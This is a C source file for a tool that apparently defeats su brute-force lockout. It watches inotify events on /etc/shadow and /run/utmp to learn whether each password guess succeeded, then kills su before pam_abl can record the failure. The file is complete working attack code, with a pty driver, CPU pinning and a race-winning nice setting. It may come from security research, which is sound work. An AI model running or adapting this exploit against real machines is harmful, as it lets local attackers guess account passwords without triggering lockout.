// inotify_kill.c → inotify_kill: a local user guesses with su, and ends each su as soon as its verdict can be seen.
//
//   inotify_kill TARGET COUNT RIGHT
//
// pam_unix opens /etc/shadow, computes, and then, if the password was wrong, utmp (for the log); if it was right, /etc/shadow again
// (for the account). inotify tells that to every user, before libpam has told pam_abl; and su may be killed, for its real user is
// its caller. su runs with nice 19 on the processor of its watcher, so that the watcher goes first. The last of COUNT guesses is
// RIGHT. Prints one line: how many were seen to be wrong, or right; how many su said themselves what they had to say; the rest.
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <pty.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum lesson { nothing, wrong, right, told, lessons };

static double seconds_now(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static pid_t start_su(const char *target, int *terminal) {
  pid_t child = forkpty(terminal, NULL, NULL, NULL);
  if (child != 0) return child;
  if (nice(19) == -1) _exit(9);
  execlp("su", "su", target, "-c", "true", (char *)NULL);
  _exit(9);
}

static void await_prompt(int terminal) {
  char said[4096] = "";
  size_t length = 0;
  while (strstr(said, "assword: ") == NULL && length < sizeof said - 1) {
    if (poll(&(struct pollfd){terminal, POLLIN, 0}, 1, 120000) != 1) return;
    ssize_t count = read(terminal, said + length, sizeof said - 1 - length);
    if (count <= 0) return;
    said[length += (size_t)count] = '\0';
  }
}

// What the opened files of one look tell.
static enum lesson lesson_of(const char *events, ssize_t size, int utmp, int *shadows) {
  for (const char *at = events; at < events + size;) {
    const struct inotify_event *event = (const struct inotify_event *)(const void *)at;
    if (event->wd == utmp) {
      if (*shadows > 0) return wrong;
    } else if (event->len > 0 && strcmp(event->name, "shadow") == 0 && ++*shadows == 2) {
      return right;
    }
    at += sizeof *event + event->len;
  }
  return nothing;
}

static enum lesson watch(pid_t su, int watcher, int utmp) {
  char events[8192] __attribute__((aligned(8)));
  int shadows = 0;
  for (double end = seconds_now() + 60; seconds_now() < end;) {
    poll(&(struct pollfd){watcher, POLLIN, 0}, 1, 50);
    ssize_t size = read(watcher, events, sizeof events);
    enum lesson lesson = size > 0 ? lesson_of(events, size, utmp, &shadows) : nothing;
    if (lesson != nothing) return lesson;
    if (size <= 0 && waitpid(su, NULL, WNOHANG) == su) return told;
  }
  return nothing;
}

static enum lesson guess(const char *target, const char *password) {
  int terminal, watcher = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
  pid_t su = start_su(target, &terminal);
  await_prompt(terminal);
  int utmp = inotify_add_watch(watcher, "/run/utmp", IN_OPEN);
  inotify_add_watch(watcher, "/etc", IN_OPEN);
  dprintf(terminal, "%s\n", password);
  enum lesson lesson = watch(su, watcher, utmp);
  if (lesson != told) kill(su, SIGKILL), waitpid(su, NULL, 0);
  close(terminal);
  close(watcher);
  return lesson;
}

int main(int argc, char **argv) {
  if (argc != 4) return fprintf(stderr, "usage: inotify_kill TARGET COUNT RIGHT\n"), 64;
  cpu_set_t one;
  CPU_ZERO(&one);
  CPU_SET(0, &one);
  sched_setaffinity(0, sizeof one, &one);
  int count = atoi(argv[2]), seen[lessons] = {0};
  for (int number = 1; number <= count; number++) {
    char password[64];
    snprintf(password, sizeof password, "guess%d", number);
    seen[guess(argv[1], number == count ? argv[3] : password)]++;
  }
  printf("wrong %d right %d told %d nothing %d\n", seen[wrong], seen[right], seen[told], seen[nothing]);
  return 0;
}
